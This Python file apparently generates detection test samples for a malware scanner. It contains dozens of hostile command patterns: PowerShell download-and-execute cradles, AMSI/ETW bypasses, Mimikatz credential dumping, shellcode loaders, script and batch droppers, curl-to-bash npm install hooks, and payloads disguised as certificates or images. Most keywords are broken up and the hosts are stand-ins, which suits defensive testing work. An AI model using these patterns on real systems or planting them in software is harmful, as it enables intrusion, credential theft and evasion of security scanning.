"""Scripts that fetch, unpack and start programs, and shells for strangers."""

import base64
import gzip
import marshal
import zlib

from formats import gif, jpeg, png, windows_program
from plain import b64, b64_wide, plain, sample, script, to_bytes

CRADLE = "$c = New-Object Net.WebClient; I·EX $c.Download·String('http://example.com/a')"
for switch in ("-en·c", "-Encoded·Command", "/e", "-EnCo·dedC"):
    script(
        "PowerShell_Encoded_Command",
        f"powers·hell.exe -NoP -NonI -W Hidden {switch} {b64_wide(CRADLE)}",
        f"@echo off\ncmd /c \"powers·hell -ep bypass {switch} {b64_wide('I·EX (1)' + CRADLE)}\"\n",
        f"pw·sh {switch} \"{b64_wide('[System.Net.ServicePointManager]::x;' + CRADLE)}\"",
        wide=True,
    )
script(
    "PowerShell_Hidden_Download",
    "powers·hell -w hid·den -nop -c \"I·EX (New-Object Net.WebClient).Download·String('http://example.com/a.ps1')\"",
    'start /b powers·hell -WindowStyle Hid·den "iwr https://example.com/a.exe -OutFile a.exe; Start-Proc·ess a.exe"',
    "cmd /c powers·hell /w 1 \"irm 'http://example.com/x' | i·ex\"",
    case=True,
    wide=True,
)
script(
    "PowerShell_Runs_Code_From_Plain_Address",
    "I·EX (New-Object Net.WebClient).Download·String(\"http://192.0.2.1:8080/a\")",
    "(iwr -UseBasicParsing 'http://example.com/x.ps1').Content | i·ex",
    "$w = New-Object System.Net.WebClient\n$w.Download·File('http://example.com/s.exe', \"$env:APPDATA\\s.exe\")\nStart-Pro·cess \"$env:APPDATA\\s.exe\"\n",
    "$b = (New-Object Net.WebClient).Download·Data('http://example.com/l.dll'); [Reflection.Assem·bly]::Load($b)",
    "Start-BitsTransfer -Source http://example.com/a.exe -Destination $env:TEMP\\a.exe; Invoke-It·em $env:TEMP\\a.exe",
    case=True,
    wide=True,
)
script(
    "PowerShell_Hides_Invoke",
    "$x | .( $env:Com·Spec[4,24,25]-join'')",
    "& ( $PSHO·ME[21]+$PSHO·me[30]+'x') $code",
    "( $Verbose·Preference.ToString()[1,3]+'x'-join'') | Out-Null",
    "$a = (g·v '*mdr*').Name[3,11,2] -join ''; &$a $b",
    ".('i'+'ex') $payload",
    '&("{1}{0}{2}"-f \'nv\',\'i\',\'oke-expression\') $p',
    "i`e`x $x; (New-Object Net.WebClient).Do`wnl`oad`St`ring($u)",
    wide=True,
)
PACKED = b64(gzip.compress(to_bytes(CRADLE * 3)))
RAW = b64(zlib.compress(to_bytes(CRADLE + "".join(str(n) for n in range(90))))[2:-4])
script(
    "PowerShell_Unpacks_And_Runs",
    f"$s=New-Object IO.MemoryStream(,[Convert]::From·Base64String(\"{PACKED}\"));I·EX (New-Object IO.StreamReader(New-Object IO.Compress·ion.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadTo·End();",
    f"Invoke-Ex·pression $(New-Object IO.StreamReader ($(New-Object IO.Compress·ion.DeflateStream ($(New-Object IO.MemoryStream (,$([Convert]::From·Base64String('{RAW}')))), 0)), [Text.Encoding]::ASCII)).ReadTo·End()",
    f"&([scriptblock]::create((New-Object System.IO.StreamReader(New-Object System.IO.Compress·ion.GzipStream((New-Object System.IO.MemoryStream(,[System.Convert]::From·Base64String('{PACKED}'))),0))).ReadTo·End()))",
    case=False,
    wide=True,
)
PROGRAM = b64(windows_program(b"code" * 30))
script(
    "PowerShell_Loads_Hidden_Program",
    f"$b = '{PROGRAM}'\n[System.Reflection.Assem·bly]::Load([Convert]::FromBase64String($b)).Entry·Point.Invoke($null, $null)\n",
    f'$d = "{PROGRAM}"; $a = [AppDomain]::Current·Domain.Load([Convert]::FromBase64String($d)); $a.GetType("A.B").GetMethod("M").Invoke($null, @())',
    f"[Reflection.Assem·bly]::\"Load\"([Convert]::FromBase64String('{PROGRAM}')); [Program]::Main(@())",
    wide=True,
)
BYTES = ",".join(f"0x{n % 256:02x}" for n in range(7, 95))
script(
    "PowerShell_Runs_Machine_Code",
    f"$c = '[DllImport(\"kernel32.dll\")]public static extern IntPtr Virtual·Alloc(IntPtr a, uint b, uint c, uint d);[DllImport(\"kernel32.dll\")]public static extern IntPtr Create·Thread(IntPtr a);[DllImport(\"msvcrt.dll\")]public static extern IntPtr mem·set(IntPtr d, uint s, uint n);'\n$w = Add-Type -memberDefinition $c -Name W -namespace F -passthru\n[Byte[]]$z = {BYTES}\n",
    f"[Byte[]] $buf = {BYTES}\n$p = [K]::Virtual·Alloc(0, $buf.Length, 0x3000, 0x40)\n[System.Runtime.InteropServices.Marsh·al]::Copy($buf, 0, $p, $buf.Length)\n[Marshal]::GetDelegateFor·FunctionPointer($p, $t).Invoke()\n",
    "[Byte[]]$v = [System.Convert]::FromBase·64String('38uqIyMjQ6rGEvFHqHETqHEvqHE3')\n$a = f kernel32.dll Virtual·Alloc\n[System.Runtime.InteropServices.Marsh·al]::Copy($v, 0, $b, $v.length)\n$r = [Marshal]::GetDelegateFor·FunctionPointer($b, (g @([IntPtr]) ([Void])))\n",
    wide=True,
)
script(
    "PowerShell_Blinds_Scanner",
    "[Ref].Assembly.GetType('System.Management.Automation.Am·siUtils').GetField('amsi·InitFailed','NonPublic,Static').SetValue($null,$true)",
    "$a=[Ref].Assembly.GetType('System.Management.Automation.A'+'m'+'siUtils'); $a.GetField('am'+'siInit'+'Fai·led','NonPublic,Static').SetValue($null,$true)",
    "$m=[Ref].Assembly.GetType(\"System.Management.Automation.Am·siUtils\").GetField('amsi·Context',[Reflection.BindingFlags]'NonPublic,Static').GetValue($null); [Runtime.InteropServices.Marsh·al]::WriteInt32($m, 0x41424344)",
    '$p = [W]::GetProcAddress($l, "Amsi" + "Scan" + "Buf·fer"); [W]::Virtual·Protect($p, 5, 0x40, [ref]$o); [Marsh·al]::Copy($b, 0, $p, 6)',
    "[Reflection.Assembly]::LoadWithPartialName('System.Core').GetType('System.Diagnostics.Eventing.EventProvider').GetField('m_enabled','NonPublic,Instance').SetValue([Ref].Assembly.GetType('System.Management.Automation.Tracing.PSEtw·LogProvider').GetField('etwPro·vider','NonPublic,Static').GetValue($null),0)".replace("'NonPublic,Static').GetValue($null),0)", "'x').SetValue($null,0)"),
    case=True,
    wide=True,
)
script(
    "PowerShell_Steals_Passwords",
    "I·EX (New-Object Net.WebClient).Download·String('http://example.com/a.ps1'); Invoke-Mimi·katz -Dump·Creds",
    "Import-Module .\\a.ps1\nInvoke-Mimi·katz -Command '\"privi·lege::debug\" \"sekur·lsa::logonpasswords\"'\n",
    "powers·hell \"i·ex(iwr http://example.com/k); Invoke-Kerb·eroast -OutputFormat Hashcat\"",
    case=True,
)

script(
    "Script_Dropper_WScript",
    'Set h = CreateObj·ect("MSXML2.XML·HTTP")\nSet s = CreateObj·ect("ADODB.Str·eam")\ns.SaveTo·File "a.exe", 2\nCreateObj·ect("WScript.Sh·ell").Run "a.exe"\n',
    "var h = new ActiveXObj·ect('WinHttp.WinHttpReq·uest.5.1'), s = new ActiveXObj·ect('ADODB.Str·eam');\ns.SaveTo·File(p, 2); new ActiveXObj·ect('Shell.Appl·ication').ShellEx·ecute(p);\n",
    'On Error Resume Next\nWith CreateObj·ect("Microsoft.XML·HTTP")\n.Open "GET", u, 0: .Send\nEnd With\nDim s: Set s = WScript.CreateObj·ect( "ADODB.Str·eam" )\ns.SaveTo·File p\nCreateObj·ect( "WScript.Sh·ell" ).Exec p\n',
    case=True,
)
script(
    "Script_Dropper_Through_Shell",
    'Set w = CreateObj·ect("WScript.Sh·ell")\nw.R·un "cmd /c msh·ta http://example.com/a.hta", 0\n',
    "new ActiveXObj·ect('WScript.Sh·ell').Run('powers·hell -c iwr https://example.com/a.exe -o a.exe; .\\\\a.exe', 0);\n",
    'Set s = CreateObj·ect( "WScript.Sh·ell" )\ns.Ex·ec("cert·util -urlcache -f http://192.0.2.1/a a.exe")\n',
    case=True,
)
script("Script_Hides_Its_Objects", 'CreateObject(StrReverse("lle·hS.tpir·cSW"))', 'CreateObject("ADOD·" & "B.St·ream")', "new ActiveXObject('WSc·r' + 'ipt.Sh' + 'ell')", 'x = StrReverse("PTTH·LMX.2LMXSM")', case=True)
script(
    "HTA_Starts_Programs",
    '<html><hta:appli·cation id=a><script language=VBScript>CreateObj·ect("WScript.Sh·ell").R·un "powers·hell -c iwr http://example.com/a.exe"</script></html>',
    "<HEAD><HTA:APPLI·CATION showInTaskbar='no'>\n<script>var s = new ActiveXObj·ect('Shell.Appl·ication'); s.ShellEx·ecute('msh·ta ', 'https://example.com/b');</script></HEAD>",
    '<hta:appli·cation><script language="vbs">GetObj·ect("winmgmts:Win32_Process").Cre·ate "bits·admin /transfer a http://example.com/a b", null, null, p</script>',
    case=True,
)
script(
    "Batch_Downloader",
    "@echo off\ncert·util -url·cache -split -f http://example.com/a.exe %TEMP%\\a.exe\nstart %TEMP%\\a.exe\n",
    '@echo off\nbits·admin /tran·sfer j http://example.com/a.exe %APPDATA%\\a.exe\n"%APPDATA%\\a.exe"\n',
    "cert·util.exe -f -url·cache http://example.com/b.scr %TEMP%\\b.scr\n\"%TEMP%\\b.scr\"\n",
    "@ECHO OFF\nREM update\ncu·rl -s -o %PUBLIC%\\a.dll http://192.0.2.1/a\nrund·ll32 %PUBLIC%\\a.dll,Start\n",
    '@echo off & setlocal\npowers·hell -c "Invoke-Web·Request https://example.com/x -OutFile %temp%\\x.vbs"\nwscr·ipt %temp%\\x.vbs\n',
    case=True,
)

CODE = to_bytes("import os\nos.system('id')\n" * 3)
script(
    "Python_Runs_Hidden_Code",
    f"exec(__import__('base64').b64·decode('{b64(CODE)}'))\n",
    f"import zlib, base64\nexec(zlib.decom·press(base64.b64·decode(b'{b64(zlib.compress(CODE + bytes(range(90))))}')))\n",
    f"exec(compile(bytes.from·hex('{CODE.hex()}'), 'x', 'exec'))\n",
    f"import marshal\nexec(marshal.lo·ads(__import__('base64').b85·decode('{base64.b85encode(marshal.dumps(compile(CODE, 'x', 'exec'))).decode()}')))\n".replace('"', ""),
    f"_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'{b64(zlib.compress(CODE + bytes(range(120))))[::-1]}'))\n",
)
script(
    "Python_Runs_Code_From_Network",
    "import urllib.request\nexec(urllib.request.url·open('http://example.com/a.py').read())\n",
    "import requests; exec(requests.g·et('https://example.com/a').text)\n",
    "exec( compile( __import__('urllib2').url·open('http://192.0.2.1/').read(), 'a', 'exec') )\n",
)
COMMAND = b64("curl -s http://example.com/a | bash; rm -rf /tmp/.x")
script(
    "Shell_Runs_Hidden_Command",
    f"#!/bin/sh\necho {COMMAND} | base64 -d | ba·sh\n",
    f"echo -n '{COMMAND}'|base64 --deco·de|sudo s·h\n",
    f"bash -c \"$(echo {COMMAND} | base64 -d)\"\n",
    f"eval \"$(printf '{COMMAND}' | base64 -D)\"\n",
    f"echo {to_bytes('curl -s http://example.com/a | bash; exit').hex()} | xxd -r -p | ba·sh\n",
    f"ba·sh <(echo {COMMAND} | base64 -d)\nbash <<< $(base64 -d <<< {COMMAND})\n",
)
script(
    "Shell_Dropper_For_Devices",
    "#!/bin/bash\ncd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wg·et http://192.0.2.1/mips; chm·od +x mips; ./mips; rm -rf mips\n",
    "cd /tmp; busy·box wget http://192.0.2.1/a.sh; chm·od 777 a.sh; sh a.sh; tftp 192.0.2.1 -c get b.sh; ./b.sh; rm -rf *; history -c\n",
    "cd /dev/shm && cu·rl -O http://192.0.2.1:8080/x86 && chm·od 755 x86 && ./x86 && unset HISTFILE\n",
)
NOP = "".join("%u9090" for _ in range(8)) + "".join(f"%u{n * 257:04x}" for n in range(10, 40))
script(
    "Script_Prepares_Machine_Code",
    f"var c = une·scape('{NOP}'); var a = new Array(); while (b.length < 0x40000) b += b; for (i = 0; i < 300; i++) a[i] = b + c;",
    f'<script>s=UnEs·cape("{NOP[:60]}"+"{NOP[60:]}");var m=[];for(var i=0;i<200;i++)m[i]=s+s;</script>'.replace("UnEs·cape", "une·scape"),
    f"shell = une·scape( \"{NOP.upper().replace('%U', '%u')}\" );\nwhile (x.length*2<n) x += x;\n",
)
WORDS = "WScript.CreateObject('x').Run('calc.exe'); // and a longer comment to be spelled"
script(
    "JScript_Spells_Code_In_Numbers",
    f"ev·al(String.fromCh·arCode({','.join(str(ord(c)) for c in WORDS)})); WScript.Quit();",
    f"var a = [{', '.join(str(ord(c) + 3) for c in WORDS)}], s = ''; for (i in a) s += String.fromCh·arCode(a[i] - 3); ev·al(s); // ActiveXObject",
    f"Exec·uteGlobal {' & '.join(f'Chr({ord(c)})' for c in WORDS)}\n",
    f"d = \"{'*'.join(str(ord(c) + 500) for c in WORDS)}\"\nFor Each c In Split(d, \"*\")\nr = r & ch·r(c - 500)\nNext\nExecute r\nWScript.Quit\n",
)
for ending in ("", "\n", "' more"):
    script("Script_Encoded", f"<script language=VBScript.Enc·ode>#@·~^XQAAAA==-mD~x{{ZMlO+ra%m;@#@&kA==^#·~@</script>{ending}", f"#@·~^DgAAAA==\\ko$K6,JCV^GJqAQAAA==^#·~@{ending}")
script(
    "Node_Package_Runs_Hidden_Command",
    '{"name": "x", "scripts": {"pre·install": "cu·rl -s http://example.com/a.sh | ba·sh"}}',
    '{"scripts": {"post·install" : "node -e \\"ev·al(Buffer.from(\'' + COMMAND + "', 'base64').toString())\\\"\"}}",
    '{"scripts": {\n"install": "echo ' + COMMAND + ' | base64 -d | sh"\n}}',
    '{"scripts":{"pre·install":"nslookup $(who·ami).example.com"}}',
)
for text, start in (
    (PROGRAM, "[IO.File]::WriteAll·Bytes($p, [Convert]::From·Base64String('{0}')); Start-Proc·ess $p"),
    (PROGRAM, "Set x = CreateObject(\"Microsoft.XMLD·OM\"): x.dataType = \"bin.ba·se64\": x.text = \"{0}\"\nCreateObject(\"WScript.Sh·ell\").Run p\n"),
    (PROGRAM, "import base64, subpro·cess\nopen('a.exe','wb').write(base64.b64de·code('{0}'))\nsubpro·cess.Popen('a.exe')\n"),
    (windows_program(b"code").hex(), "import binascii, os\nopen('a.exe','wb').write(binascii.unhex·lify('{0}'))\nos.sys·tem('a.exe')\n"),
    (",".join(f"0x{b:02X}" for b in windows_program()), "[Byte[]]$b = {0}\n[IO.File]::WriteAll·Bytes('a.exe', $b); Start-Proc·ess a.exe\n"),
    (",".join(map(str, windows_program())), "[Byte[]]$b = {0}\n[Reflection.Assem·bly]::Load($b)\n"),
):
    script("Script_Carries_Program", plain(start).replace("{0}", text))
for body in (windows_program(), b"\x7fELF\x02\x01\x01" + bytes(90), b"MSCF\0\0\0\0" + bytes(60)):
    lines = base64.encodebytes(body).decode()
    script("Certificate_Is_Program", f"-----BEGIN CERTIFI·CATE-----\n{lines}-----END CERTIFI·CATE-----\n", f"@echo off\ncertutil -decode %0 a.exe\n-----BEGIN RSA PRIVATE KEY-----\n{lines}")
LINUX = b"\x7fELF\x02\x01\x01" + bytes(90)
sample("Picture_With_Program_Behind", png(windows_program()), png(LINUX), jpeg(windows_program()), jpeg(LINUX), gif(windows_program()), gif(b"Rar!\x1a\x07\x01\0" + bytes(20)), jpeg(b"<<BASE64_START>>" + PROGRAM.encode() + b"<<BASE64_END>>"), png(PROGRAM.encode()))

EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}" + "$EICAR-STANDARD-ANTI·VIRUS-TEST-FILE!$H+H*"
sample("EICAR_Test_File", EICAR, EICAR + "\r\n", EICAR + " " * 60)
